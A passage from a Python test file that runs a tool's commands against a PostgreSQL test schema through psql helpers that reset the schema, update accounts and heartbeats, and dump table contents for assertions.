        server = os.environ["SEATMETER_TEST_POSTGRESQL"]
        subprocess.run(["psql", "-q", "-d", server], text=True, check=True, stderr=subprocess.DEVNULL,
                       input="drop schema if exists command_test cascade; create schema command_test")
        return server + "&options=-csearch_path%3Dcommand_test"

    def set_name(self, code, name):
        subprocess.run(["psql", "-q", "-v", f"code={code}", "-v", f"name={name}", "-d", self.environment["SEATMETER_DB"]],
                       text=True, check=True, input="update accounts set name = :'name' where code = :'code'")

    def set_heartbeat(self, at_us):
        subprocess.run(["psql", "-q", "-v", f"at={at_us}", "-d", self.environment["SEATMETER_DB"]],
                       text=True, check=True, input="insert into heartbeat (id, at_us) values (1, :at)")

    def rows(self):
        done = subprocess.run(["psql", "-qAt", "-d", self.environment["SEATMETER_DB"]], text=True, check=True,
                              stdout=subprocess.PIPE, input="select format('table %I', tablename) from pg_tables "
                              "where schemaname = current_schema order by tablename \\gexec\n")
        self.assertIn("Northwind", done.stdout)
        return done.stdout.splitlines()

    def test_every_command_has_help_and_completions(self):
        self.skipTest("the same on every store")

    def test_one_secret_opens_a_store_and_no_other(self):
        self.skipTest("the same on every store")


if "SEATMETER_TEST_POSTGRESQL" not in os.environ:
    print("SKIPPED on PostgreSQL: SEATMETER_TEST_POSTGRESQL names no server")
    del TheCommandOnPostgres

if __name__ == "__main__":
    unittest.main()
